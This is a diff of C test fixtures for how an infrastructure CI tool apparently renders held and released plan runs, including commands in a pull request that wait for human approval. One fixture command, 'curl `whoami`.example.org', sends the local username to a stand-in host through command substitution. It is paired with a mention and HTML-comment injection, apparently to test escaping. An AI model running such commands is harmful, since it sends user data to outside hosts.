@@ -275,6 +275,48 @@ static void plan_ordered(struct scene *scene)
 	add_job(scene, "infra/mail", JOB_HELD);
 }
 
+static void plan_configured(struct scene *scene)
+{
+	static struct told_change changes[] = {
+		{ "infra/app", "added", "", "infra/app, workspace default" },
+		{ "infra/network", "environment", "production", "" },
+		{ "infra/network", "autoplan.when_modified", "*.tf", "*.tf, ../mo|dules/**" },
+	};
+	static struct told_command commands[] = {
+		{ "deploy", "plan", "curl `whoami`.example.org @alice\n<!-- x -->",
+			"sluice.yaml:7:5" },
+	};
+	static const char *notes[] = {
+		"sluice.yaml:9:3: environments.production.approvals: only the base branch can "
+		"loosen it"
+	};
+
+	scene->run.state = RUN_FAILED;
+	add_plan(scene, "infra/network", summary_create);
+	fail_job(add_job(scene, "infra/app", JOB_SKIPPED), OUTCOME_NONE, "",
+		"its workflow \"deploy\" runs commands that are new in this pull request; they "
+		"wait for a person");
+	scene->view.told = (struct told){ .file = "sluice.yaml",
+		.changes = changes,
+		.change_count = countof(changes),
+		.commands = commands,
+		.command_count = countof(commands),
+		.commands_hash = "hash",
+		.released_by = "",
+		.notes = notes,
+		.note_count = countof(notes),
+		.left_out = 3 };
+	set_gate(scene, false);
+}
+
+static void plan_released(struct scene *scene)
+{
+	plan_configured(scene);
+	scene->view.told.is_released = true;
+	scene->view.told.released_by = "bob";
+	scene->view.has_folds = false;
+}
+
 static void as_apply(struct scene *scene, enum run_state state)
 {
 	scene->run.kind = RUN_APPLY;
@@ -359,6 +401,8 @@ static const struct {
 	{ "plan-long-output", plan_long_output },
 	{ "plan-plain-host", plan_plain_host },
 	{ "plan-ordered", plan_ordered },
+	{ "plan-configured", plan_configured },
+	{ "plan-released", plan_released },
 	{ "apply-running", apply_running },
 	{ "apply-done", apply_done },
 	{ "apply-failed", apply_failed },
